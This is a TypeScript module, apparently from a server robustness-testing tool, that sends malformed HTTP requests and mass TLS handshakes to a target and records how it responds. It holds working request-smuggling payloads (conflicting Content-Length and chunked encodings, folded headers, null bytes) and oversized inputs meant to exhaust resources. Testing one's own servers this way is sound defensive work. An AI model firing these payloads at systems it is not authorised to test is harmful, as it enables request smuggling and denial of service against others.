import { randomBytes } from 'node:crypto';
import { connect as connectTls } from 'node:tls';
import type { Attack, Target } from './attack.ts';
import { RawConnection, requestHead, signHead } from './raw-connection.ts';

const SMUGGLED = `${requestHead('GET', '/upcheck')}\r\n`;

/** Requests that two parties may frame differently, lengths that lie, and bytes that are no HTTP at all. */
function payloads(target: Target): Record<string, string | Uint8Array> {
  const post = (headers: readonly string[], body: string): string =>
    `${signHead(target, ...headers)}\r\n${body}`;
  const chunked = 'Transfer-Encoding: chunked';
  return {
    'length and chunks': post(['Content-Length: 5', chunked], `0\r\n\r\n${SMUGGLED}`),
    'chunks and length': post([chunked, `Content-Length: ${SMUGGLED.length + 5}`], `0\r\n\r\n${SMUGGLED}`),
    'two lengths': post(['Content-Length: 2', 'Content-Length: 3'], `{}${SMUGGLED}`),
    'two lengths in one': post(['Content-Length: 2, 3'], `{}${SMUGGLED}`),
    'negative length': post(['Content-Length: -2'], `{}${SMUGGLED}`),
    'hexadecimal length': post(['Content-Length: 0x2'], `{}${SMUGGLED}`),
    'identity and chunks': post(['Transfer-Encoding: identity, chunked, x'], `0\r\n\r\n${SMUGGLED}`),
    'a chunk longer than itself': post([chunked], `2\r\n{}{}\r\n0\r\n\r\n${SMUGGLED}`),
    'a chunk of too many digits': post([chunked], `${'f'.repeat(40)}\r\n{}\r\n`),
    'an endless chunk extension': post([chunked], `2;${'x'.repeat(64 * 1024)}`),
    'a folded header': `${signHead(target)}X: 1\r\n Content-Length: 2\r\nContent-Length : 2\r\n\r\n{}${SMUGGLED}`,
    'bare line feeds in a header': `GET /upcheck HTTP/1.1\nHost: a\rX: b\n\n`,
    'a null byte in a header': `${requestHead('GET', '/upcheck', 'X: \0')}\r\n`,
    'HTTP/0.9': 'GET /upcheck\r\n',
    'HTTP/2 preface': 'PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n',
    'HTTP/9.9': 'GET /upcheck HTTP/9.9\r\nHost: a\r\n\r\n',
    'no HTTP': 'SSH-2.0-OpenSSH_9.9\r\n',
    'random bytes': randomBytes(64 * 1024),
    'zeros': new Uint8Array(64 * 1024),
    'a line without end': `GET /${'a'.repeat(200_000)}`,
  };
}

/** @returns by name of the payload what came back and whether the connection was closed */
export const malformed = (async (target, { rounds = 0 }) => {
  const seen: Record<string, string> = {};
  for (let round = 0; round < rounds; round += 1) {
    await Promise.all(
      Object.entries(payloads(target)).map(async ([name, payload]) => {
        const connection = await RawConnection.open(target);
        if (connection === null) return;
        connection.send(payload);
        const closed = await connection.closedWithin(2000);
        seen[name] = `${connection.statuses.join(' ')}${closed ? '' : ' left open'}`;
        await connection.destroy();
      }),
    );
  }
  return seen;
}) satisfies Attack;

/** TLS handshakes where nobody speaks TLS. */
export const handshakes = (async ({ host, port }, { connections = 0 }) => {
  let failed = 0;
  await Promise.all(
    Array.from({ length: connections }, async () => {
      const socket = connectTls({ host, port, rejectUnauthorized: false });
      await new Promise<void>((resolve) => {
        socket.once('error', () => {
          failed += 1;
          resolve();
        });
        socket.once('secureConnect', resolve);
      });
      socket.destroy();
    }),
  );
  return { failed };
}) satisfies Attack;
